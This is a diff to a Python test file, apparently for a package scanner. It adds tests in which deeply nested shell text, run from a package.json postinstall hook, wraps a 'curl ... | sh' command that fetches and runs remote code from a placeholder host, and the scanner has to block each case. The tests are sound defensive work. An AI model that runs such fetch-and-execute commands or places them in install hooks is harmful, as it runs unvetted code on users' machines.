@@ -74,6 +74,21 @@ def test_no_letter_after_a_brace_ends_the_shell_reader(letter: str) -> None:
         assert inspected(files).verdict == "block"
 
 
+NESTED = {  # a shell text in which something stands within itself, many times
+    "substitutions": "echo " + "$(" * 3_000 + "curl https://a.invalid | sh" + ")" * 3_000,
+    "quoted substitutions": "echo " + '"$(' * 1_000 + "curl https://a.invalid | sh" + ')"' * 1_000,
+    "conditions": "if a; then " * 3_000 + "curl https://a.invalid | sh" + "; fi" * 3_000,
+    "pipes": "curl https://a.invalid" + " | sh" * 3_000,
+}
+
+
+@pytest.mark.parametrize("text", NESTED.values(), ids=NESTED.keys())
+def test_a_shell_text_within_itself_is_read(text: str) -> None:
+    """Each level of substitutions once read all that stood within it: thirty took for ever, three thousand no stack."""
+    files: Files = {"package.json": '{"scripts": {"postinstall": "sh a.sh"}}', "a.sh": text}
+    assert inspected(files).verdict == "block"
+
+
 def test_padding_of_megabytes_does_not_hide_a_chain() -> None:
     found = read("a.py", "# padding\n" * 150_000 + HIT)
     assert caught(found)
